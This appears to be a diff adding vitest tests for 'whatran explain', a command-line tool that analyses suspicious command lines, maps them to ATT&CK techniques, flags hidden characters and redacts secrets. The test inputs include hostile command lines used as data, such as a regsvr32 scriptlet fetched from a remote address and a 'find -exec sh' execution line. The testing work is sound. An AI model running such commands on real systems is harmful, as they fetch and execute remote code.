@@ -1,0 +1,137 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { whatran } from "../support/io.ts";
+import { SCRIPTLET } from "../support/logs.ts";
+
+const lines = (text: string) => text.split("\n").slice(0, -1);
+
+describe("explain", () => {
+  it("answers in JSON into a pipe", async () => {
+    const { code, out } = await whatran(["explain", SCRIPTLET]);
+    expect(code).toBe(0);
+    const answer = JSON.parse(out);
+    expect(answer.commandLine).toBe(SCRIPTLET);
+    expect(answer.invocations[0].behaviours[0]).toMatchObject({
+      id: "windows/regsvr32/scriptlet",
+      runs: [{ what: "scriptlet", where: "web", value: "http://203.0.113.9/a.sct", remote: true }],
+    });
+    expect(answer.verdict.level).toMatch(/high|critical/);
+  });
+
+  it("teaches on a terminal: who, arguments, what runs, why, how it is seen and stopped", async () => {
+    const { out } = await whatran(["explain", SCRIPTLET], { tty: true, env: { NO_COLOR: "1" } });
+    for (const part of [
+      "regsvr32.exe",
+      "Registers COM servers",
+      "arguments",
+      "runs",
+      "T1218.010",
+      "seen by",
+      "stopped",
+      "M1038",
+    ])
+      expect(out).toContain(part);
+    for (const line of out.split("\n")) expect(line.length).toBeLessThanOrEqual(100);
+  });
+
+  it("shows what hides in a command line instead of printing it", async () => {
+    const { out } = await whatran(["explain", "rundll32 a.dll,\u202eMain\u001b[2J", "-t", "text"]);
+    expect(out).toContain("\\u{202e}Main");
+    expect(out).not.toMatch(/[\u202e\u001b]/);
+  });
+
+  it("takes several words as an argument list", async () => {
+    const { out } = await whatran([
+      "explain",
+      "--platform",
+      "linux",
+      "--",
+      "find",
+      "/",
+      "-exec",
+      "sh",
+      "-c",
+      "id; ls",
+      ";",
+    ]);
+    expect(JSON.parse(out).invocations.map((one: { binary: { name: string } }) => one.binary.name)).toEqual(
+      expect.arrayContaining(["find", "sh"]),
+    );
+  });
+
+  it("masks secrets with --redact, in every form", async () => {
+    for (const format of ["json", "text"]) {
+      const line = "regsvr32 /s /i:http://u:Winter24@203.0.113.9/a.sct scrobj.dll";
+      expect((await whatran(["explain", line, "-t", format, "--redact"])).out).not.toContain("Winter24");
+    }
+  });
+
+  it("needs a command line", async () => expect((await whatran(["explain"])).code).toBe(2));
+});
+
+describe("explain --stdin", () => {
+  const ask = async (stdin: string, ...flags: string[]) => {
+    const ran = await whatran(["explain", "--stdin", "--format", "ndjson", ...flags], { stdin });
+    return { ...ran, answers: lines(ran.out).map((line) => JSON.parse(line)) };
+  };
+
+  it("answers plain lines and objects, in order", async () => {
+    const { answers, code } = await ask(
+      [
+        SCRIPTLET,
+        JSON.stringify({ commandLine: "/s x.dll", image: "C:\\Windows\\System32\\regsvr32.exe" }),
+        JSON.stringify({ args: ["find", ".", "-exec", "id", ";"], platform: "linux" }),
+      ].join("\n"),
+    );
+    expect(code).toBe(0);
+    expect(answers.map((one) => one.invocations[0]?.binary.name)).toEqual(["regsvr32.exe", "regsvr32.exe", "find"]);
+  });
+
+  it("answers every line, wrong ones too, and says on stderr which", async () => {
+    const { answers, err, code } = await ask('notepad\n{"commandLine": \n\n{"x":1}\n{"commandLine":5}\nnotepad');
+    expect(code).toBe(0);
+    expect(answers).toHaveLength(6);
+    for (const wrong of [1, 3, 4]) {
+      expect(answers[wrong].invocations).toEqual([]);
+      expect(answers[wrong].verdict).toMatchObject({ level: "informational", text: expect.stringContaining("Error") });
+    }
+    expect(err).toContain("stdin:2");
+    expect(err).toContain("[explain/bad-line]");
+  });
+
+  it("takes flags as what is known of every line", async () => {
+    const { answers } = await ask("/s x.dll\n", "--image", "C:\\Windows\\System32\\regsvr32.exe", "--as", "logged");
+    expect(answers[0].invocations[0].binary.name).toBe("regsvr32.exe");
+  });
+
+  it("reads lines however the bytes are cut, with Windows line ends and a byte order mark", async () => {
+    const bytes = Buffer.from(`\ufeff${SCRIPTLET}\r\nnotepad ünïcode 漢\r\n`);
+    async function* cut(): AsyncGenerator<Buffer> {
+      for (const byte of bytes) yield Buffer.from([byte]);
+    }
+    const { out } = await whatran(["explain", "--stdin"], { stdin: cut() });
+    expect(lines(out).map((line) => JSON.parse(line).commandLine)).toEqual([SCRIPTLET, "notepad ünïcode 漢"]);
+  });
+
+  it("gives as many answers as there are lines, whatever they hold", async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(fc.string({ unit: "binary", maxLength: 60 }), { minLength: 1, maxLength: 6 }),
+        async (texts) => {
+          const clean = texts.map((text) => text.replaceAll("\n", " "));
+          const { answers } = await ask(`${clean.join("\n")}\n`);
+          expect(answers).toHaveLength(clean.length);
+        },
+      ),
+      { numRuns: 40 },
+    );
+  });
+
+  it("stops when it is interrupted", async () => {
+    const { code } = await whatran(["explain", "--stdin"], {
+      stdin: "notepad\n",
+      signal: AbortSignal.abort("interrupted"),
+    });
+    expect(code).toBe(130);
+  });
+});
